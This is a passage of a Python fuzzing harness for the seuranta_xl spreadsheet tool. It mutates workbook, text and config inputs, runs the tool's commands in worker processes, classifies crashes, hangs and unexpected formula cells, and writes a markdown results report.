def make_jobs(seed: int, count: int, commands: tuple[str, ...], fx: Fixtures) -> list[Job]:
    """``count`` mutants written into ``fx.folder``, each with its jobs; the same for the same seed."""
    rng = random.Random(seed)
    report = EXAMPLE.read_bytes()
    bases = {"report": [report, shared_strings_variant(report)], "marked": [fx.marked.read_bytes()],
             "person": [p.read_bytes() for p in fx.persons()]}
    bases["person"].append(shared_strings_variant(bases["person"][0]))
    text = TEXT_EXPORT.read_bytes()
    jobs: list[Job] = []
    for index in range(count):
        command = commands[index % len(commands)]
        base = base_of(command)
        if base == "text":
            op, data = _text_ops(rng, text)
            kind, path = f"text:{op}", fx.folder / f"m{index}.txt"
        elif base == "config":
            op, data = _config_ops(rng)
            kind, path = f"config:{op}", fx.folder / f"m{index}.toml"
        else:
            kind, data = mutant(rng, bases[base])
            path = fx.folder / f"m{index}.xlsx"
            if base == "person":  # a folder of returned files: one of them the mutant
                persons = fx.persons()
                replaced = rng.choice(persons)
                returned = fx.folder / f"returned{index}"
                returned.mkdir()
                for person in persons:
                    if person != replaced:
                        shutil.copy(person, returned / person.name)
                path = returned / replaced.name
                kind = "person-" + kind
            elif base == "marked":
                kind = "marked-" + kind
        path.write_bytes(data)
        jobs.extend(jobs_for(index, path, kind, command, fx))
    return jobs


# --- running and classifying ---------------------------------------------------------------------


@dataclass
class Outcome:
    kind: str
    command: str
    code: int | None
    stderr: str
    seconds: float
    verdict: str = ""
    reason: str = ""


def classify(outcome: Outcome) -> Outcome:
    err = outcome.stderr
    lines = err.splitlines()
    if outcome.code is None:
        outcome.verdict, outcome.reason = "other", f"over {TIME_LIMIT:.0f} s"
    elif outcome.seconds > TIME_LIMIT:
        outcome.verdict, outcome.reason = "other", f"{outcome.seconds:.1f} s"
    elif "Traceback" in err or "odottamaton" in err or "unexpected error" in err:
        outcome.verdict, outcome.reason = "other", (lines[-1] if lines else "traceback")[:200]
    elif outcome.code in (0, 1):
        outcome.verdict = "clean"
    elif outcome.code == 2 and len(lines) == 1:
        outcome.verdict = "exit2"
    else:
        outcome.verdict, outcome.reason = "other", f"exit {outcome.code}: {err[-300:]!r}"
    return outcome


def digest(paths: list[Path]) -> dict[str, str]:
    """Each input's content hash (or that it is missing)."""
    import hashlib

    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "missing" for p in paths}


def _has_formula(path: Path) -> bool:
    """Whether a written workbook (or any workbook in a written folder) holds a formula cell (the
    example has none of its own)."""
    if path.is_dir():
        return any(_has_formula(p) for p in path.glob("*.xlsx"))
    if not path.is_file():
        return False
    with zipfile.ZipFile(path) as z:
        return any(re.search(rb"<(?:\w+:)?f[ >/]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/"))


WORKER = r"""
import io, json, os, sys, time
os.environ.setdefault("PYTHONIOENCODING", "utf-8")
channel = os.fdopen(os.dup(1), "w", encoding="utf-8", buffering=1)
from seuranta_xl.cli import main, _quiet_unraisable
sys.unraisablehook = _quiet_unraisable


def api(path, clean, folder):
    # the Python API, ribbon-free: plain data in and out; InputError is its "exit 2"
    import seuranta_xl
    try:
        report = seuranta_xl.validate(path)
        seuranta_xl.compute_rollup(report)
        report.to_frame()
        seuranta_xl.compare(clean, path).to_dict()
        seuranta_xl.compare(path, clean).to_dict()
        if path.endswith((".xlsx", ".xlsm")):
            seuranta_xl.split(path, folder).to_dict()
            seuranta_xl.merge(path, folder, os.path.join(folder, "koottu.xlsx")).to_dict()
    except seuranta_xl.InputError as exc:
        print(f"seuranta-xl: {exc}", file=sys.stderr)
        return 2
    return 0


for line in sys.stdin:
    args = json.loads(line)
    out, err = io.StringIO(), io.StringIO()
    sys.stdout, sys.stderr = out, err
    start = time.monotonic()
    try:
        code = api(*args[1:]) if args[0] == "@api" else main(args)
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 2
    except BaseException as exc:
        import traceback
        err.write("Traceback (worker): " + "".join(traceback.format_exception(exc)))
        code = 99
    sys.stdout, sys.stderr = sys.__stdout__, sys.__stderr__
    channel.write(json.dumps({"code": code, "stderr": err.getvalue(), "seconds": time.monotonic() - start}) + "\n")
"""


class Worker:
    """A process running CLI commands one after another (JSON lines in and out); :func:`fuzz`
    kills and replaces it when a command hangs or the process dies (an abort is then that
    command's outcome)."""

    def __init__(self) -> None:
        env = dict(os.environ, PYTHONIOENCODING="utf-8", PYTHONPATH=str(ROOT))
        self.proc = subprocess.Popen([sys.executable, "-c", WORKER], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, env=env, cwd=str(ROOT))

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait()


@dataclass
class Run:
    outcomes: list[Outcome] = field(default_factory=list)
    seconds: float = 0.0
    stopped_by_budget: bool = False
    commands: tuple[str, ...] = COMMANDS

    def counts(self) -> Counter:
        return Counter(o.verdict for o in self.outcomes)


def _remove(path: Path) -> None:
    if path.is_dir():
        shutil.rmtree(path, ignore_errors=True)
    elif path.exists():
        path.unlink()


def fuzz(seed: int, count: int, *, jobs: int = 2, budget: float = 60.0, keep: Path | None = None,
         commands: tuple[str, ...] = COMMANDS, progress: Callable[[int, int], None] | None = None) -> Run:
    """Run ``count`` mutants (fewer if ``budget`` seconds run out) on ``jobs`` workers: each through
    validate and one of ``commands`` in turn."""
    unknown = set(commands) - set(COMMANDS)
    if unknown or not commands:
        raise ValueError(f"unknown commands: {sorted(unknown)}")
    result = Run(commands=tuple(commands))
    started = time.monotonic()
    folder = Path(tempfile.mkdtemp(prefix="seuranta-fuzz-"))
    workers = [Worker() for _ in range(jobs)]
    try:
        fx = Fixtures.make(folder)
        pending = make_jobs(seed, count, tuple(commands), fx)
        busy: dict[int, tuple[Job, dict[str, str], float]] = {}
        while pending or busy:
            if time.monotonic() - started > budget:
                result.stopped_by_budget = True
                break
            for slot, worker in enumerate(workers):
                if slot not in busy and pending:
                    job = pending.pop(0)
                    before = digest(job.inputs)
                    worker.proc.stdin.write((json.dumps(job.args) + "\n").encode())
                    worker.proc.stdin.flush()
                    busy[slot] = (job, before, time.monotonic())
            streams = {workers[slot].proc.stdout: slot for slot in busy}
            ready, _, _ = select.select(list(streams), [], [], 0.5)
            now = time.monotonic()
            for slot in list(busy):
                job, before, began = busy[slot]
                worker = workers[slot]
                stream = worker.proc.stdout
                if stream in ready:
                    line = stream.readline()
                    if line:
                        reply = json.loads(line)
                        code, err, seconds = reply["code"], reply["stderr"], reply["seconds"]
                    else:
                        rc = worker.proc.wait()
                        code, seconds = (128 - rc if rc < 0 else rc), now - began
                        err = f"worker died ({rc}): {worker.proc.stderr.read().decode('utf-8', 'replace')[-400:]}"
                        workers[slot] = Worker()
                elif now - began > TIME_LIMIT:
                    worker.close()
                    workers[slot] = Worker()
                    code, err, seconds = None, "", now - began
                else:
                    continue
                del busy[slot]
                outcome = classify(Outcome(job.kind, job.command, code, err, seconds))
                changed = [Path(p).name for p, h in digest(job.inputs).items() if h != before[p]]
                if changed:
                    outcome.verdict, outcome.reason = "other", "input changed on disk: " + ", ".join(changed)
                elif outcome.verdict == "clean" and any(_has_formula(p) for p in job.outputs):
                    outcome.verdict, outcome.reason = "other", "a formula cell in the output"
                result.outcomes.append(outcome)
                if outcome.verdict == "other" and keep is not None:
                    keep.mkdir(parents=True, exist_ok=True)
                    shutil.copy(job.path, keep / f"{job.index}-{job.command}{job.path.suffix}")
                for path in job.outputs:
                    _remove(path)
                if progress is not None:
                    progress(len(result.outcomes), len(result.outcomes) + len(pending) + len(busy))
    finally:
        for worker in workers:
            worker.close()
        shutil.rmtree(folder, ignore_errors=True)
    result.seconds = time.monotonic() - started
    return result


def report(run: Run, command: str, seed: int) -> str:
    """The results file: the command, the counts, and every ``other`` outcome."""
    counts = run.counts()
    families = Counter((o.kind.split(":")[0], o.verdict) for o in run.outcomes)
    by_command = Counter((o.command, o.verdict) for o in run.outcomes)
    slowest = max(run.outcomes, key=lambda o: o.seconds, default=None)
    lines = [
        "# Fuzzing results", "",
        f"Command: `{command}`", "",
        f"Seed {seed}; {len(run.outcomes)} runs (validate on every mutant, and one more command per mutant in turn: "
        f"{', '.join(run.commands)}) in "
        f"{run.seconds:.0f} s" + (" (stopped by the time budget)" if run.stopped_by_budget else "") + ".", "",
        "| verdict | runs |", "|---|---|",
        *(f"| {v} | {counts.get(v, 0)} |" for v in ("clean", "exit2", "other")), "",
        "| command | clean | exit2 | other |", "|---|---|---|---|",
        *(f"| {c} | {by_command.get((c, 'clean'), 0)} | {by_command.get((c, 'exit2'), 0)} | {by_command.get((c, 'other'), 0)} |"
          for c in ("validate", *run.commands)), "",
        "| family | clean | exit2 | other |", "|---|---|---|---|",
        *(f"| {fam} | {families.get((fam, 'clean'), 0)} | {families.get((fam, 'exit2'), 0)} | {families.get((fam, 'other'), 0)} |"
          for fam in sorted({f for f, _ in families})), "",
    ]
    if slowest is not None:
        lines += [f"Slowest run: {slowest.seconds:.2f} s ({slowest.command}, {slowest.kind}).", ""]
    others = [o for o in run.outcomes if o.verdict == "other"]
    if others:
        lines += ["## Other", ""] + [f"- {o.kind} ({o.command}): {o.reason}" for o in others[:100]]
    return "\n".join(lines) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--count", type=int, default=500)
    parser.add_argument("--budget", type=float, default=600.0, help="seconds")
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--commands", default=",".join(COMMANDS),
                        help="comma-separated, taken in turn besides validate (default: all: %(default)s)")
    parser.add_argument("--results", type=Path, help="write the results file here (markdown)")
    parser.add_argument("--keep", type=Path, help="copy every mutant classified 'other' here")
    args = parser.parse_args(argv)
    commands = tuple(c.strip() for c in args.commands.split(",") if c.strip())
    if set(commands) - set(COMMANDS):
        parser.error(f"--commands: choose from {', '.join(COMMANDS)}")

    def progress(done: int, total: int) -> None:
        if done % 50 == 0:
            print(f"{done}/{total}", file=sys.stderr)

    run = fuzz(args.seed, args.count, jobs=args.jobs, budget=args.budget, keep=args.keep, commands=commands,
               progress=progress)
    command = "python tests/fuzz/fuzz.py " + " ".join(sys.argv[1:] if argv is None else argv)
    text = report(run, command, args.seed)
    if args.results:
        args.results.write_text(text, encoding="utf-8")
    print(text)
    return 1 if run.counts().get("other") else 0


if __name__ == "__main__":
    sys.exit(main())
